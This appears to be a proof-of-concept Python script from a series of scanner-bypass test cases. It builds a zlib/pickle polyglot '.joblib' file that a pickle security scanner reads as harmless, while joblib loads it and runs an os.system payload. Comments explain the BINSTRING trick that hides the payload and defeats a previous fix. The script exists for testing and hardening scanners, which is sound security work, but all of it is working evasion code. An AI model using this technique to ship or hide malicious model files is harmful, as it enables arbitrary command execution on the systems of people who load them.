# b8's zlib/pickle polyglot (a valid zlib stream to the scanner, a raw pickle to joblib, which
# only inflates files starting with 'x'), with the payload hidden behind a genuine joblib array.
# The fix of b8 reads the stream's raw bytes as a *plain* pickle only (no joblib pass): the
# first array's 5 bytes are a BINSTRING header there, which swallows the payload. joblib skips
# the 5 array bytes and runs POP + os.system + STOP.
from common import *
import zlib, struct
lo = 0x00
LEN = 0x7100 | lo
data = bytearray(LEN)
data[0:2] = b'N.'                       # u64 length = 0x2e4e = 11854 (BINBYTES8 in the raw view)
L8 = struct.unpack('<Q', bytes(data[0:8]))[0]
at = 8 + L8
W = G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(5) + b'\x85' + U('C') + dtype('u1') + b'\x89NtR}b'
tail = b'0' + PAYLOAD + b'.'
arr = b'T' + struct.pack('<i', len(tail) - 1)   # plain pass: a BINSTRING over POP+payload
blob = b'0' + W + arr + tail
data[at:at+len(blob)] = blob
data = bytes(data)
stream = b'\x28\x91' + bytes([0x71, lo, 0x71, lo ^ 0xff, 0x8e]) + data + struct.pack('>I', zlib.adler32(data))
assert zlib.decompress(stream, 15) == data
run('c6_zlib_polyglot_joblib.joblib', stream)
